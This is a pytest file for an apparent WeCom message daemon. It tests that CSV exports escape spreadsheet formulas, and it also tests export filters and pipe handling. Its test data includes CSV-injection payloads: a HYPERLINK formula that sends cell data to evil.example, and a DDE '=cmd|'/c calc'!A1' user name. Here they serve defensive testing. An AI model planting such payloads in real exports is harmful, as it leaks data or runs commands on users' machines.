"""Exports as a user takes them: `wecomd export` in a real subprocess and the dashboard's download
from a real server, over a real SQLite file filled through real callbacks."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import urllib.error
import urllib.request

import pytest

from support import ROOT
from support.config import API_TOKEN
from support.peer import CORP_ID, WecomPeer
from wecomd.wecom import samples

# What a spreadsheet would run as a formula, and what it shows as text after the OWASP escape.
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-2+3", "+1", "@SUM(A1:A9)", "\tx", "\rx"]
HARMLESS = ["plain", "2-3", "a=b", "'quoted", "中文 =1"]


def wecomd(*args: str, **kw) -> subprocess.CompletedProcess:
    """The command's output as bytes decoded without newline translation (a CR must stay a CR)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    result = subprocess.run([sys.executable, "-m", "wecomd", *args], capture_output=True, env=env,
                            timeout=120, **kw)
    result.stdout, result.stderr = result.stdout.decode("utf-8"), result.stderr.decode("utf-8")
    return result


def send(server, app: str, agent_id: str, content: str, from_user: str = "zhangsan") -> None:
    """A text callback to `app`; a leading CR is sent as &#13;, since XML turns a raw one into LF."""
    xml = samples.build("text", corp_id=CORP_ID, agent_id=agent_id, content="MARKER", from_user=from_user)
    xml = xml.replace("<![CDATA[MARKER]]>", content.replace("\r", "&#13;") if content.startswith("\r")
                      else "<![CDATA[%s]]>" % content)
    req = WecomPeer().callback(xml, agent_id=agent_id)
    request = urllib.request.Request("%s/callback/%s?%s" % (server.url, app, req.query), data=req.body)
    with urllib.request.urlopen(request, timeout=10) as resp:
        assert resp.status == 200


def api(server, path: str) -> tuple[int, bytes]:
    request = urllib.request.Request(server.url + path, headers={"Authorization": "Bearer " + API_TOKEN})
    try:
        with urllib.request.urlopen(request, timeout=30) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


@pytest.fixture
def stored(server):
    """The quiet app (no automatic reply) holding every formula and harmless text, in that order."""
    for text in FORMULAS + HARMLESS:
        send(server, "quiet", "1000003", text)
    send(server, "quiet", "1000003", "from a formula user", from_user="=cmd|'/c calc'!A1")
    return server


def check_csv(text: str) -> None:
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    contents = [row["content"] for row in table]
    assert contents[:len(FORMULAS)] == ["'" + text for text in FORMULAS]
    assert contents[len(FORMULAS):-1] == HARMLESS
    assert table[-1]["from_user"] == "'=cmd|'/c calc'!A1"
    for row in table:  # no cell of any column starts like a formula
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row


def test_cli_csv_export_escapes_formulas(stored):
    result = wecomd("export", "-c", str(stored.config), "--format", "csv", "--app", "quiet")
    assert result.returncode == 0, result.stderr
    check_csv(result.stdout)
    # JSON lines are data, not a spreadsheet: kept exactly as received.
    jsonl = wecomd("export", "-c", str(stored.config), "--app", "quiet")
    assert [json.loads(line)["content"] for line in jsonl.stdout.splitlines()][:len(FORMULAS)] == FORMULAS


def test_dashboard_csv_download_escapes_formulas(stored):
    status, body = api(stored, "/api/export?format=csv&app=quiet")
    assert status == 200
    check_csv(body.decode("utf-8"))
    status, body = api(stored, "/api/export?format=jsonl&app=quiet")
    assert [json.loads(line)["content"] for line in body.decode().splitlines()][:len(FORMULAS)] == FORMULAS


# --- `wecomd export` on the command line (#9 item 14) -------------------------------------------

def fill(directory, count: int, user: str = "zhangsan", msgtype: str = "text", app: str = "helpdesk",
         text: str = "第%d条消息", padding: int = 0) -> None:
    """`count` inbound messages stored straight into the config's SQLite file."""
    from wecomd.wecom.messages import Message
    from wecomd.store import Store

    store = Store("wecomd.db", base_dir=directory)
    store.migrate()
    try:
        for n in range(count):
            content = (text % n) + "x" * padding
            fields = {"Content": content} if msgtype == "text" else {"PicUrl": "http://p/%d" % n}
            message = Message(msgtype=msgtype, from_user=user, to_user=CORP_ID, agent_id="1000002",
                              create_time=1764370000 + n, msg_id="%s-%s-%d" % (user, msgtype, n),
                              content=content if msgtype == "text" else None, fields=fields)
            store.messages.save_inbound(app, message, "%s|%s|%s|%d" % (app, user, msgtype, n))
    finally:
        store.close()


@pytest.fixture
def conf(tmp_path):
    from support.config import write_config

    return write_config(tmp_path)


def exported(conf, *args: str) -> list:
    result = wecomd("export", "-c", str(conf), *args)
    assert result.returncode == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_export_takes_the_dashboards_filters(conf):
    fill(conf.parent, 3, user="zhangsan", text="打印机卡纸 %d")
    fill(conf.parent, 2, user="lisi", text="VPN 连不上 %d")
    fill(conf.parent, 2, user="lisi", msgtype="image")
    fill(conf.parent, 1, user="lisi", app="quiet", text="VPN quiet %d")

    assert len(exported(conf)) == 8
    assert {r["from_user"] for r in exported(conf, "--user", "lisi")} == {"lisi"}
    assert len(exported(conf, "--user", "lisi")) == 5
    assert [r["msgtype"] for r in exported(conf, "--type", "image")] == ["image", "image"]
    assert [r["content"] for r in exported(conf, "-q", "vpn")] == ["VPN 连不上 0", "VPN 连不上 1", "VPN quiet 0"]
    assert [r["content"] for r in exported(conf, "--query", "卡纸", "--user", "zhangsan")] == [
        "打印机卡纸 0", "打印机卡纸 1", "打印机卡纸 2"]
    assert exported(conf, "-q", "vpn", "--app", "quiet", "--type", "text", "--user", "lisi")[0]["content"] == \
        "VPN quiet 0"
    assert exported(conf, "--user", "nobody") == []


def test_export_filters_match_the_dashboard_download(conf):
    """The same filters give the same rows as GET /api/export, on the same database."""
    from support.config import write_config
    from support.server import ServerProcess, free_port

    fill(conf.parent, 4, user="zhangsan", text="hello %d")
    fill(conf.parent, 3, user="lisi", text="VPN %d")
    port = free_port()
    server = ServerProcess(write_config(conf.parent, port), port)
    try:
        for query, args in (("user=lisi", ("--user", "lisi")), ("q=vpn", ("-q", "vpn")),
                            ("msgtype=text&user=zhangsan", ("--type", "text", "--user", "zhangsan"))):
            status, body = api(server, "/api/export?format=jsonl&" + query)
            assert status == 200
            assert [json.loads(line)["id"] for line in body.decode().splitlines()] == \
                [r["id"] for r in exported(server.config, *args)], query
    finally:
        server.terminate()


def test_an_unknown_app_is_a_usage_error_naming_the_known_apps(conf):
    fill(conf.parent, 2)
    result = wecomd("export", "-c", str(conf), "--app", "helpdsek")
    assert result.returncode == 2
    assert result.stdout == ""
    assert "helpdsek" in result.stderr and "helpdesk, quiet" in result.stderr
    assert "Traceback" not in result.stderr


def test_export_into_a_pipe_closed_early_exits_quietly(conf):
    """`wecomd export | head -n 1`: the reader goes away after one line; no traceback, no noise."""
    fill(conf.parent, 1500, padding=200)  # far more than a pipe buffer holds
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for fmt in ("jsonl", "csv"):
        proc = subprocess.Popen([sys.executable, "-m", "wecomd", "export", "-c", str(conf), "--format", fmt],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
        first = proc.stdout.readline()
        proc.stdout.close()  # as `head` does once it has its line
        stderr = proc.stderr.read().decode()
        code = proc.wait(60)
        proc.stderr.close()
        assert first, fmt
        assert code in (0, 141), (fmt, code, stderr)
        assert stderr == "", (fmt, stderr)


def test_export_through_a_shell_pipe_into_head(conf):
    fill(conf.parent, 1500, padding=200)
    command = "set -o pipefail 2>/dev/null; %s -m wecomd export -c '%s' | head -n 2" % (sys.executable, conf)
    result = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=60,
                            env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert len(result.stdout.splitlines()) == 2
    assert result.stderr == ""
    assert result.returncode in (0, 141)
